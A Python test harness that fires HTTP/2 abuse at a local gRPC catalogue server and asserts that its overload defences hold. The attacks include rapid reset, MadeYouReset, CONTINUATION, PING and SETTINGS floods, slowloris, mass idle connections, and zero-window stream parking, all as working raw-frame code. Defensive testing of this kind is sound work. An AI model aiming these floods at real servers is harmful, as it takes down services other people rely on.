"""HTTP/2 abuse against a running catalogue (started with its defaults), from a
raw client. Each row sends an attack, reads what the server answered and
asserts that answer (a GOAWAY and its code, a connection the server closed,
a call refused with UNAVAILABLE), then that the server still serves a call
from a fresh client and that its resident memory stayed bounded. It prints
what it sent, what the server did, and the RSS before and after.

Rows: rapid reset (CVE-2023-44487), MadeYouReset (CVE-2025-8671), CONTINUATION flood, PING and SETTINGS
floods, slowloris on the preface and on the headers, connections that send
the preface and nothing more, connections that send a HEADERS frame's
header and nothing more, 4,097 silent connections then a health check from a
fresh client, 6 connections x 200 never-ending calls then a call from a
fresh client, a flood of health Watch streams; and from several addresses:
16 addresses each holding 256 idle connections, 2 addresses holding
reflection streams that never send a second message, ListProducts streams
parked at a zero flow-control window, round after round.

A "fresh client" connects from 127.0.0.99 (all of 127/8 is loopback on
Linux): the attacks come from 127.0.0.1 and, for the rows of several
addresses, from 127.0.0.10 onwards; the server bounds what one client IP
may hold, and keeps a share of its slots for addresses holding little.

Usage: python scripts/h2-abuse.py HOST:PORT SERVER_PID
The server runs with its defaults but --stream-idle-timeout, which the
suite reads from STREAM_IDLE_TIMEOUT_S (default 5, as h2-abuse.sh starts
it). Every attack is bounded in frames and seconds, and targets loopback
only.
"""

import os
import resource
import select
import socket
import struct
import sys
import time

from hpack import Decoder, Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ERROR_CODES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
               0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL", 0xB: "ENHANCE_YOUR_CALM"}
# The server's defaults this suite expects (docs/overload.md).
HANDSHAKE_TIMEOUT_S = 5
MAX_CONNECTIONS_PER_PEER = 256
MAX_CONCURRENT_CALLS = 1024
MAX_CALLS_PER_PEER = 768
MAX_HEALTH_WATCHES = 1024
# Longest the suite waits for the server to act on a timeout of its own.
SLACK_S = 5
MAX_CONNECTIONS = 4096
STREAM_IDLE_TIMEOUT_S = float(os.environ.get("STREAM_IDLE_TIMEOUT_S", "5"))
# A bound on how much memory one attack may add to the server.
MAX_RSS_GROWTH_MB = 64
# The bound on the server's resident memory while one address parks
# streams (a Kubernetes limit of 384Mi leaves room above it).
MAX_PARKED_RSS_MB = 256
ATTACKER, FRESH_CLIENT = "127.0.0.1", "127.0.0.99"
# The server's pid, for the rows that watch its memory.
SERVER_PID = None


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def tcp(addr, source=ATTACKER):
    host, port = addr.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0))


def connect(addr, source=ATTACKER, settings=b""):
    sock = tcp(addr, source)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return sock


def request_headers(encoder, path="/catalogue.v1.CatalogueService/GetProduct"):
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", "catalogue"), ("content-type", "application/grpc"), ("te", "trailers"),
    ])


def send_quietly(sock, data):
    """Sends until the server closes the connection (its defence)."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


class Reader:
    """The server's frames on one connection, read as they come."""

    def __init__(self, sock):
        self.sock, self.buffer, self.closed, self.decoder = sock, b"", False, Decoder()

    def frames(self, seconds):
        """Frames that arrive within `seconds` (fewer if the server closes)."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
            self.buffer += chunk
            yield from self._parse()
        yield from self._parse()

    def _parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            yield kind, flags, stream, payload

    def headers(self, payload):
        """A HEADERS payload (no padding or priority: the server sends none) decoded."""
        return dict(self.decoder.decode(payload))


def goaway(kind, payload):
    if kind != GOAWAY:
        return None
    code = int.from_bytes(payload[4:8], "big")
    return ERROR_CODES.get(code, hex(code))


def grpc_message(body=b""):
    return b"\x00" + struct.pack(">I", len(body)) + body


def call(addr, path, body=b"", source=FRESH_CLIENT):
    """One unary gRPC call over a fresh connection from `source`; returns its
    grpc-status (None if the server gave none) and the response messages."""
    try:
        sock, encoder = connect(addr, source), Encoder()
        sock.sendall(frame(HEADERS, END_HEADERS, 1, request_headers(encoder, path))
                     + frame(DATA, END_STREAM, 1, grpc_message(body)))
    except OSError:
        return None, b""  # refused
    reader, status, data = Reader(sock), None, b""
    for kind, flags, stream, payload in reader.frames(5):
        if kind == SETTINGS and not flags & ACK:
            sock.sendall(frame(SETTINGS, ACK, 0))
        elif kind == DATA and stream == 1:
            data += payload
        elif kind == HEADERS and stream == 1:
            headers = reader.headers(payload)
            if "grpc-status" in headers:
                status = int(headers["grpc-status"])
                break
    sock.close()
    return status, data


def health_check(addr, source=FRESH_CLIENT):
    """SERVING from grpc.health.v1.Health/Check, from `source`."""
    status, data = call(addr, "/grpc.health.v1.Health/Check", source=source)
    # HealthCheckResponse{status: SERVING} is field 1, varint 1.
    return status == 0 and data.endswith(b"\x08\x01")


def get_product(addr, source=FRESH_CLIENT):
    # GetProductRequest{product_id: "prod-0000001"}
    product_id = b"prod-0000001"
    return call(addr, "/catalogue.v1.CatalogueService/GetProduct",
                b"\x0a" + bytes([len(product_id)]) + product_id, source)[0]


def closed_by_server(socks, seconds):
    """Which of `socks` the server closes (EOF or reset) within `seconds`."""
    pending, closed = {sock.fileno(): sock for sock in socks}, []
    deadline = time.monotonic() + seconds
    poller = select.poll()
    for fd in pending:
        poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
    while pending and time.monotonic() < deadline:
        for fd, _ in poller.poll(max(1, int((deadline - time.monotonic()) * 1000))):
            sock = pending.get(fd)
            if sock is None:
                continue
            try:
                sock.setblocking(False)
                if sock.recv(65536):
                    continue  # the server's SETTINGS: still open
            except BlockingIOError:
                continue
            except OSError:
                pass
            poller.unregister(fd)
            del pending[fd]
            closed.append(sock)
    return closed


# The rows. Each returns (what it sent, what the server did) and raises
# AssertionError when the server's answer is not the defence expected.

def open_streams_each_with(addr, kind, payload):
    """Opens up to 20,000 streams, each HEADERS followed at once by a frame
    of `kind` with `payload` on the same stream; returns the socket and how
    many were sent before the server stopped reading."""
    sock, encoder = connect(addr), Encoder()
    sent = 0
    for stream in range(1, 2 * 20_000, 2):
        burst = frame(HEADERS, END_HEADERS, stream, request_headers(encoder)) + frame(kind, 0, stream, payload)
        if not send_quietly(sock, burst):
            break
        sent += 1
    return sock, sent


def rapid_reset(addr):
    sock, sent = open_streams_each_with(addr, RST_STREAM, struct.pack(">I", 8))
    codes = [code for kind, _, _, payload in Reader(sock).frames(5) if (code := goaway(kind, payload))]
    sock.close()
    assert "ENHANCE_YOUR_CALM" in codes, f"no GOAWAY ENHANCE_YOUR_CALM (GOAWAYs: {codes})"
    return f"{sent} streams opened and reset", f"GOAWAY {codes[-1]}, connection closed"


def made_you_reset(addr):
    """CVE-2025-8671: frames that make the server reset the stream itself
    (a WINDOW_UPDATE that overflows the stream's window is a stream error),
    which rapid reset's count of client resets does not see."""
    sock, sent = open_streams_each_with(addr, WINDOW_UPDATE, struct.pack(">I", 0x7FFFFFFF))
    reader = Reader(sock)
    answers = list(reader.frames(5))
    resets = sum(1 for kind, _, _, _ in answers if kind == RST_STREAM)
    codes = [code for kind, _, _, payload in answers if (code := goaway(kind, payload))]
    sock.close()
    assert "ENHANCE_YOUR_CALM" in codes, f"no GOAWAY ENHANCE_YOUR_CALM (GOAWAYs: {codes}, {resets} resets read)"
    return f"{sent} streams, each sent a WINDOW_UPDATE overflowing its window", \
        f"reset them ({resets} RST_STREAM read), then GOAWAY {codes[-1]} (1,024 local resets)"


def continuation_flood(addr):
    sock, encoder = connect(addr), Encoder()
    send_quietly(sock, frame(HEADERS, 0, 1, request_headers(encoder)))
    junk = encoder.encode([("x-junk", "y" * 4000)])
    frames = 0
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and frames < 20_000:
        if not send_quietly(sock, frame(CONTINUATION, 0, 1, junk)):
            break
        frames += 1
    reader = Reader(sock)
    answers = [(kind, payload) for kind, _, _, payload in reader.frames(5)]
    codes = [code for kind, payload in answers if (code := goaway(kind, payload))]
    sock.close()
    assert codes or reader.closed, "the server neither sent GOAWAY nor closed the connection"
    did = f"GOAWAY {codes[-1]}" if codes else "closed the connection"
    return f"{frames} CONTINUATION frames ({frames * 4} KiB of headers) on one stream", did


def frame_flood(addr, frames, what, answer):
    """Sends `frames` (100 frames) again and again for at most 5 s or 200,000
    frames, reading nothing; then reads what the server answered."""
    sock = connect(addr)
    sent = 0
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and sent < 200_000:
        if not send_quietly(sock, frames):
            break
        sent += 100
    reader = Reader(sock)
    answered = sum(1 for kind, flags, _, _ in reader.frames(2) if kind == answer and flags & ACK)
    sock.close()
    assert answered > 0 or reader.closed, f"no {what} answered and the connection is open"
    return f"{sent} {what} without reading", f"answered {answered} with ACKs once we read (it reads no further while its answers are unread)"


def ping_flood(addr):
    return frame_flood(addr, frame(PING, 0, 0, b"12345678") * 100, "PINGs", PING)


def settings_flood(addr):
    max_concurrent_streams = struct.pack(">HI", 0x3, 100)
    return frame_flood(addr, frame(SETTINGS, 0, 0, max_concurrent_streams) * 100, "SETTINGS frames", SETTINGS)


def slowloris_preface(addr):
    sock = tcp(addr)
    started, sent = time.monotonic(), 0
    for byte in PREFACE:
        if not send_quietly(sock, bytes([byte])):
            break
        sent += 1
        time.sleep(0.3)
        if server_closed(sock):
            break
    waited = time.monotonic() - started
    closed = server_closed(sock) or bool(closed_by_server([sock], HANDSHAKE_TIMEOUT_S + SLACK_S - waited))
    sock.close()
    assert closed, "the trickling connection is still open"
    assert sent < len(PREFACE), "the whole preface went through"
    return f"the preface a byte every 0.3 s ({sent} of {len(PREFACE)} bytes sent)", \
        f"closed the connection after {time.monotonic() - started:.1f} s (--handshake-timeout)"


def server_closed(sock):  # noqa: N802 - reads like the question it asks
    """Whether the server has closed `sock` (without blocking)."""
    try:
        sock.setblocking(False)
        while True:
            if not sock.recv(65536):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        sock.setblocking(True)


def slowloris_headers(addr):
    # h2 itself ends a header block of more than 5 CONTINUATION frames with
    # GOAWAY ENHANCE_YOUR_CALM: this one stays under that, and trickles.
    sock, encoder = connect(addr), Encoder()
    block = request_headers(encoder)
    started, fragments = time.monotonic(), 0
    send_quietly(sock, frame(HEADERS, 0, 1, block[:4]))
    for offset in range(4, 8):
        time.sleep(1.5)
        if server_closed(sock) or not send_quietly(sock, frame(CONTINUATION, 0, 1, block[offset:offset + 1])):
            break
        fragments += 1
    closed = server_closed(sock) or bool(closed_by_server([sock], HANDSHAKE_TIMEOUT_S + SLACK_S))
    sock.close()
    assert closed, "the connection trickling its headers is still open"
    return f"a HEADERS block without END_HEADERS, then a 1-byte CONTINUATION every 1.5 s ({fragments} sent)", \
        f"closed the connection after {time.monotonic() - started:.1f} s (--handshake-timeout)"


def closed_by_handshake_timeout(addr, socks, sent):
    """Asserts that a fresh client is served while `socks` (which sent
    `sent`) are open, and that the server closes them all in time."""
    served = health_check(addr)
    closed = closed_by_server(socks, HANDSHAKE_TIMEOUT_S + SLACK_S)
    for sock in socks:
        sock.close()
    assert served, "no health check served while they were open"
    assert len(closed) == len(socks), f"only {len(closed)} of {len(socks)} closed"
    return f"{len(socks)} connections with {sent}, then nothing", \
        f"served a health check meanwhile; closed all {len(closed)} after the handshake timeout"


def preface_only(addr):
    return closed_by_handshake_timeout(addr, [connect(addr) for _ in range(200)], "the preface and SETTINGS")


def silent_connections(addr):
    count = 4097
    raise_open_files(count)
    socks = []
    for _ in range(count):
        try:
            socks.append(tcp(addr))
        except OSError:
            break
    at_once = closed_by_server(socks, 1)
    served = health_check(addr)
    closed_later = len(closed_by_server([sock for sock in socks if sock not in set(at_once)],
                                        HANDSHAKE_TIMEOUT_S + SLACK_S))
    closed_at_once = len(at_once)
    for sock in socks:
        sock.close()
    assert len(socks) == count, f"only {len(socks)} connected"
    assert closed_at_once >= count - MAX_CONNECTIONS_PER_PEER, f"only {closed_at_once} closed at once"
    assert served, "the fresh client's health check failed"
    assert closed_at_once + closed_later == count, f"{count - closed_at_once - closed_later} still open"
    return f"{count} TCP connections from {ATTACKER} that send nothing", \
        f"closed {closed_at_once} by a second after the last connected (all but --max-connections-per-peer, " \
        f"and the handshake timeout's first), {closed_later} after the handshake timeout; a health check " \
        f"from {FRESH_CLIENT} SERVING meanwhile"


def stream_flood(addr, path, connections, streams, body):
    """`connections` x `streams` calls of `path` whose request (if `body`) is
    sent whole or (if not) never ends; returns the sockets and how many calls
    the server refused with UNAVAILABLE."""
    socks, refused = [], 0
    for _ in range(connections):
        sock, encoder = connect(addr), Encoder()
        burst = b""
        for stream in range(1, 2 * streams, 2):
            burst += frame(HEADERS, END_HEADERS, stream, request_headers(encoder, path))
            if body is not None:
                burst += frame(DATA, END_STREAM, stream, grpc_message(body))
        sock.sendall(burst + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        socks.append(sock)
    # Refusals are answered at once; the calls admitted wait out the 10 s
    # request timeout, which the reading below stays well within.
    for sock in socks:
        reader = Reader(sock)
        for kind, flags, _, payload in reader.frames(1):
            if kind == SETTINGS and not flags & ACK:
                sock.sendall(frame(SETTINGS, ACK, 0))
            elif kind == HEADERS and reader.headers(payload).get("grpc-status") == "14":
                refused += 1
    return socks, refused


def never_ending_calls(addr):
    connections, streams = 6, 200
    socks, refused = stream_flood(addr, "/catalogue.v1.CatalogueService/GetProduct", connections, streams, None)
    fresh = get_product(addr)
    for sock in socks:
        sock.close()
    held = connections * streams - refused
    assert held <= MAX_CALLS_PER_PEER, f"{held} calls held by one client IP"
    assert refused == connections * streams - MAX_CALLS_PER_PEER, f"{refused} refused"
    assert fresh == 0, f"the fresh client's GetProduct ended with grpc-status {fresh}"
    return f"{connections} connections x {streams} GetProduct calls whose request never ends", \
        f"held {held} (--max-calls-per-peer), refused {refused} with UNAVAILABLE; GetProduct from {FRESH_CLIENT} OK"


def watch_flood(addr):
    connections, streams = 6, 200
    socks, refused = stream_flood(addr, "/grpc.health.v1.Health/Watch", connections, streams, b"")
    served = health_check(addr)
    fresh = get_product(addr)
    for sock in socks:
        sock.close()
    assert refused == connections * streams - MAX_HEALTH_WATCHES, f"{refused} refused"
    assert served and fresh == 0, "health checks and calls are not served"
    return f"{connections} connections x {streams} health Watch streams", \
        f"held {connections * streams - refused} (--max-health-watches), refused {refused} with UNAVAILABLE; " \
        f"a health check and a GetProduct from {FRESH_CLIENT} served"


def raise_open_files(count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 256)), hard))


def attackers(count, first=10):
    """`count` loopback addresses from 127.0.0.`first` on."""
    return [f"127.0.0.{first + index}" for index in range(count)]


def frame_header_only(addr):
    """A HEADERS frame's 9-byte header (END_HEADERS, a 100-byte payload
    announced) and not one byte of its payload: no request ever starts."""
    socks = []
    for _ in range(200):
        sock = connect(addr, "127.0.0.40")
        sock.sendall(struct.pack(">I", 100)[1:] + bytes([HEADERS, END_HEADERS]) + struct.pack(">I", 1))
        socks.append(sock)
    return closed_by_handshake_timeout(addr, socks, "the preface, SETTINGS and a HEADERS frame header")


def idle_connections_from_many_addresses(addr):
    """16 addresses, each with --max-connections-per-peer connections that
    asked for one health check and then sit idle (answering nothing)."""
    sources, per_address = attackers(16), MAX_CONNECTIONS_PER_PEER
    raise_open_files(len(sources) * per_address)
    socks = []
    for source in sources:
        for _ in range(per_address):
            try:
                sock, encoder = connect(addr, source), Encoder()
                sock.sendall(frame(HEADERS, END_HEADERS, 1, request_headers(encoder, "/grpc.health.v1.Health/Check"))
                             + frame(DATA, END_STREAM, 1, grpc_message()))
            except OSError:
                continue
            socks.append(sock)
    closed_at_once = len(closed_by_server(socks, 1))
    served, fresh = health_check(addr), get_product(addr)
    for sock in socks:
        sock.close()
    held = len(socks) - closed_at_once
    assert served, f"the health check from {FRESH_CLIENT} failed while {held} connections were held"
    assert fresh == 0, f"GetProduct from {FRESH_CLIENT} ended with grpc-status {fresh}"
    return f"{len(sources)} addresses x {per_address} connections, each one health check then idle", \
        f"held {held}, closed {closed_at_once} at once (the share kept for addresses holding few); " \
        f"a health check and a GetProduct from {FRESH_CLIENT} served"


class Call:
    """The server's answers on the streams of one connection."""

    def __init__(self, sock):
        self.sock, self.reader, self.statuses, self.answered = sock, Reader(sock), {}, set()

    def read(self, seconds):
        for kind, flags, stream, payload in self.reader.frames(seconds):
            if kind == SETTINGS and not flags & ACK:
                send_quietly(self.sock, frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                send_quietly(self.sock, frame(PING, ACK, 0, payload))
            elif kind == HEADERS:
                self.answered.add(stream)
                status = self.reader.headers(payload).get("grpc-status")
                if status is not None:
                    self.statuses[stream] = status


def read_all(calls, seconds, until=lambda: False):
    """Reads every connection's answers, a slice at a time, for `seconds`
    or until `until()`."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not until():
        for call in calls:
            call.read(0.05)


def count(calls, status):
    return sum(1 for call in calls for code in call.statuses.values() if code == status)


def reflection_streams_from_two_addresses(addr):
    """Reflection streams that send one request and never end their side:
    from two addresses, more than every call slot."""
    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    list_services = b"\x3a\x00"  # ServerReflectionRequest{list_services: ""}
    connections, streams = 6, 200
    calls = []
    for source in attackers(2, 20):
        for _ in range(connections):
            sock, encoder = connect(addr, source), Encoder()
            burst = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
            for stream in range(1, 2 * streams, 2):
                burst += frame(HEADERS, END_HEADERS, stream, request_headers(encoder, path)) \
                    + frame(DATA, 0, stream, grpc_message(list_services))
            sock.sendall(burst)
            calls.append(Call(sock))
    total = len(calls) * streams
    # Every stream answered: admitted (a first response) or refused.
    read_all(calls, SLACK_S, lambda: sum(len(call.answered) for call in calls) >= total)
    held = total - count(calls, "14")
    served, fresh = health_check(addr), get_product(addr)
    read_all(calls, STREAM_IDLE_TIMEOUT_S + SLACK_S, lambda: count(calls, "4") >= held)
    refused = count(calls, "14")
    held = total - refused
    ended = count(calls, "4")
    for call in calls:
        call.sock.close()
    assert served, f"the health check from {FRESH_CLIENT} failed while {held} reflection streams were held"
    assert fresh == 0, f"GetProduct from {FRESH_CLIENT} ended with grpc-status {fresh} while {held} were held"
    assert ended == held, f"{ended} of the {held} idle reflection streams ended DEADLINE_EXCEEDED"
    return f"2 addresses x {connections} connections x {streams} reflection streams, one request each, never ended", \
        f"held {held}, refused {refused}; a health check and a GetProduct from {FRESH_CLIENT} served; " \
        f"all {ended} ended DEADLINE_EXCEEDED after --stream-idle-timeout"


def parked_list_products(addr):
    """ListProducts streams of 1,000 products under a zero flow-control
    window, from one address, a fresh batch each round once the last
    batch's slots are given back."""
    source, rounds, connections, streams = "127.0.0.30", 4, 4, 200
    page_of_1000 = grpc_message(b"\x08\xe8\x07")  # ListProductsRequest{page_size: 1000}
    zero_window = struct.pack(">HI", 0x4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
    socks, peak = [], rss_mb(SERVER_PID)
    for _ in range(rounds):
        for _ in range(connections):
            sock, encoder = connect(addr, source, zero_window), Encoder()
            burst = b""
            for stream in range(1, 2 * streams, 2):
                burst += frame(HEADERS, END_HEADERS, stream,
                               request_headers(encoder, "/catalogue.v1.CatalogueService/ListProducts")) \
                    + frame(DATA, END_STREAM, stream, page_of_1000)
            send_quietly(sock, burst)
            socks.append(sock)
        time.sleep(1)
        peak = max(peak, rss_mb(SERVER_PID))
        time.sleep(STREAM_IDLE_TIMEOUT_S)
        peak = max(peak, rss_mb(SERVER_PID))
    fresh = get_product(addr)
    for sock in socks:
        sock.close()
    assert peak < MAX_PARKED_RSS_MB, f"RSS reached {peak:.0f} MB"
    assert fresh == 0, f"GetProduct from {FRESH_CLIENT} ended with grpc-status {fresh}"
    return f"{rounds} rounds of {connections} connections x {streams} ListProducts of 1,000 under a zero window", \
        f"RSS peaked at {peak:.0f} MB (under {MAX_PARKED_RSS_MB}); GetProduct from {FRESH_CLIENT} served"


# Rows whose attack legitimately holds more memory than MAX_RSS_GROWTH_MB
# while it lasts (thousands of open connections, or a bound of their own).
idle_connections_from_many_addresses.max_rss_growth_mb = 192
parked_list_products.max_rss_growth_mb = MAX_PARKED_RSS_MB


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError(f"process {pid} is gone")


ROWS = (rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood, slowloris_preface, slowloris_headers,
        preface_only, frame_header_only, silent_connections, never_ending_calls, watch_flood,
        reflection_streams_from_two_addresses, parked_list_products, idle_connections_from_many_addresses)


def main(addr, pid):
    global SERVER_PID
    SERVER_PID = pid
    passed = failed = 0
    for row in ROWS:
        before = rss_mb(pid)
        try:
            sent, did = row(addr)
            time.sleep(0.5)
            after = rss_mb(pid)
            assert get_product(addr) == 0, "the server no longer serves a fresh client"
            growth = after - before
            bound = getattr(row, "max_rss_growth_mb", MAX_RSS_GROWTH_MB)
            assert growth < bound, f"RSS grew {growth:.1f} MB"
            print(f"PASS {row.__name__}: sent {sent}; the server {did}; RSS {before:.1f} -> {after:.1f} MB", flush=True)
            passed += 1
        except Exception as error:  # noqa: BLE001 - report every failure
            print(f"FAIL {row.__name__}: {error}", flush=True)
            failed += 1
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
